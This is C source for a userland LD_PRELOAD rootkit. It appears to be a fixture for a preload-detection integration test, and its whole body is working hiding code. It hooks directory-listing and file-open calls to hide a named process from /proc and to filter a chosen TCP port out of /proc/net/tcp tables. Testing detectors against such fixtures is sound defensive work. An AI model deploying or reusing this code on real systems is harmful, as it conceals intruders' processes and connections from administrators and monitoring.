/* hide: a test rootkit — an LD_PRELOAD / ld.so.preload library that hides a named process from /proc listings and a TCP port from /proc/net/tcp, as libprocesshider, Jynx and Azazel do. */
/*
 * For tests/it_preload.sh only.  Its configuration sits beside it, in
 * LIBRARY.conf (so a copy in a test's temporary directory is configured
 * by that test alone, with nothing in the environment):
 *     process NAME     (a comm: every /proc/PID whose comm is NAME is hidden)
 *     port N           (a local TCP port: its lines of /proc/net/tcp{,6} and
 *                       /proc/PID/net/tcp{,6} are dropped)
 * Hooked: getdents64, readdir, readdir64 (listings of a /proc
 * directory), and open, open64, openat, openat64, fopen, fopen64 of a
 * net/tcp or net/tcp6 table, which get a memfd holding the filtered text.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static char hide_name[64];
static unsigned hide_port;

static ssize_t (*real_getdents64)(int, void *, size_t);
static struct dirent *(*real_readdir)(DIR *);
static struct dirent64 *(*real_readdir64)(DIR *);
static int (*real_openat)(int, const char *, int, ...);

/* Raw system calls for the hook's own reads: never through a hook. */
static int sys_openat(int dirfd, const char *path, int flags)
{
	return (int)syscall(SYS_openat, dirfd, path, flags | O_CLOEXEC, 0);
}

static ssize_t read_all(int fd, char *buf, size_t max)
{
	size_t n = 0;
	ssize_t got;

	while (n < max && (got = syscall(SYS_read, fd, buf + n, max - n)) > 0)
		n += (size_t)got;
	return (ssize_t)n;
}

__attribute__((constructor)) static void hide_init(void)
{
	char conf[4096], line[256];
	Dl_info info;
	FILE *f;

	real_getdents64 = (ssize_t (*)(int, void *, size_t))dlsym(RTLD_NEXT, "getdents64");
	real_readdir = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
	real_readdir64 = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, "readdir64");
	real_openat = (int (*)(int, const char *, int, ...))dlsym(RTLD_NEXT, "openat");
	if (!dladdr((void *)hide_init, &info) || !info.dli_fname)
		return;
	snprintf(conf, sizeof(conf), "%s.conf", info.dli_fname);
	f = fopen(conf, "re");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "process %63s", hide_name) == 1)
			continue;
		if (sscanf(line, "port %u", &hide_port) == 1 && hide_port < 65536)
			continue;
	}
	fclose(f);
}

/* Whether fd is an open directory of /proc itself. */
static bool is_proc_dir(int fd)
{
	char link[64], target[64];
	ssize_t n;

	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	n = syscall(SYS_readlink, link, target, sizeof(target) - 1);
	if (n < 0)
		return false;
	target[n] = '\0';
	return strcmp(target, "/proc") == 0;
}

/* Whether /proc/NAME is a process whose comm is the hidden name. */
static bool hidden_pid(const char *name)
{
	char path[64], comm[64];
	ssize_t n;
	int fd;

	if (!hide_name[0] || name[0] < '0' || name[0] > '9')
		return false;
	snprintf(path, sizeof(path), "/proc/%s/comm", name);
	fd = sys_openat(AT_FDCWD, path, O_RDONLY);
	if (fd < 0)
		return false;
	n = read_all(fd, comm, sizeof(comm) - 1);
	close(fd);
	if (n <= 0)
		return false;
	comm[n] = '\0';
	comm[strcspn(comm, "\n")] = '\0';
	return strcmp(comm, hide_name) == 0;
}

ssize_t getdents64(int fd, void *buf, size_t size)
{
	ssize_t got = real_getdents64(fd, buf, size), off = 0;

	if (got <= 0 || !is_proc_dir(fd))
		return got;
	while (off < got) {
		struct dirent64 *e = (struct dirent64 *)((char *)buf + off);
		unsigned short len = e->d_reclen;

		if (hidden_pid(e->d_name)) {
			memmove(e, (char *)e + len, (size_t)(got - off - len));
			got -= len;
			continue;
		}
		off += len;
	}
	return got;
}

struct dirent *readdir(DIR *d)
{
	struct dirent *e;

	while ((e = real_readdir(d)) && is_proc_dir(dirfd(d)) && hidden_pid(e->d_name))
		;
	return e;
}

struct dirent64 *readdir64(DIR *d)
{
	struct dirent64 *e;

	while ((e = real_readdir64(d)) && is_proc_dir(dirfd(d)) && hidden_pid(e->d_name))
		;
	return e;
}

/* Whether path names a TCP table: .../net/tcp or .../net/tcp6. */
static bool is_tcp_table(const char *path)
{
	size_t n = strlen(path);

	return (n >= 7 && strcmp(path + n - 7, "net/tcp") == 0) ||
	       (n >= 8 && strcmp(path + n - 8, "net/tcp6") == 0);
}

/* Whether a table line's local address ends with the hidden port. */
static bool hidden_line(const char *line)
{
	char port[16];
	const char *p = strchr(line, ':');

	if (!hide_port || !p)
		return false;
	/* "  sl: LOCAL_ADDR:PORT REMOTE..." */
	p = strchr(p + 1, ':');
	if (!p)
		return false;
	snprintf(port, sizeof(port), "%04X ", hide_port);
	return strncmp(p + 1, port, 5) == 0;
}

/* The table, filtered, in a memfd; or -1 with errno from the real open. */
static int filtered_table(int dirfd, const char *path)
{
	size_t max = 4 << 20;
	char *in = malloc(max), *line, *save;
	int fd = sys_openat(dirfd, path, O_RDONLY), out = -1;
	ssize_t n;

	if (fd < 0 || !in) {
		free(in);
		if (fd >= 0)
			close(fd);
		return -1;
	}
	n = read_all(fd, in, max - 1);
	close(fd);
	out = memfd_create("tcp", MFD_CLOEXEC);
	if (n < 0 || out < 0) {
		free(in);
		return -1;
	}
	in[n] = '\0';
	for (line = strtok_r(in, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		if (hidden_line(line))
			continue;
		if (write(out, line, strlen(line)) < 0 || write(out, "\n", 1) < 0)
			break;
	}
	free(in);
	lseek(out, 0, SEEK_SET);
	return out;
}

static int hooked_openat(int dirfd, const char *path, int flags, mode_t mode)
{
	if (path && hide_port && is_tcp_table(path))
		return filtered_table(dirfd, path);
	return real_openat(dirfd, path, flags, mode);
}

int openat(int dirfd, const char *path, int flags, ...)
{
	mode_t mode = 0;
	va_list ap;

	va_start(ap, flags);
	if (flags & (O_CREAT | O_TMPFILE))
		mode = va_arg(ap, mode_t);
	va_end(ap);
	return hooked_openat(dirfd, path, flags, mode);
}

int openat64(int dirfd, const char *path, int flags, ...)
	__attribute__((alias("openat")));

int open(const char *path, int flags, ...)
{
	mode_t mode = 0;
	va_list ap;

	va_start(ap, flags);
	if (flags & (O_CREAT | O_TMPFILE))
		mode = va_arg(ap, mode_t);
	va_end(ap);
	return hooked_openat(AT_FDCWD, path, flags, mode);
}

int open64(const char *path, int flags, ...) __attribute__((alias("open")));

FILE *fopen(const char *path, const char *how)
{
	static FILE *(*real)(const char *, const char *);
	int fd;

	if (path && hide_port && is_tcp_table(path)) {
		fd = filtered_table(AT_FDCWD, path);
		return fd < 0 ? NULL : fdopen(fd, "r");
	}
	if (!real)
		real = (FILE *(*)(const char *, const char *))dlsym(RTLD_NEXT, "fopen");
	return real(path, how);
}

FILE *fopen64(const char *path, const char *how) __attribute__((alias("fopen")));
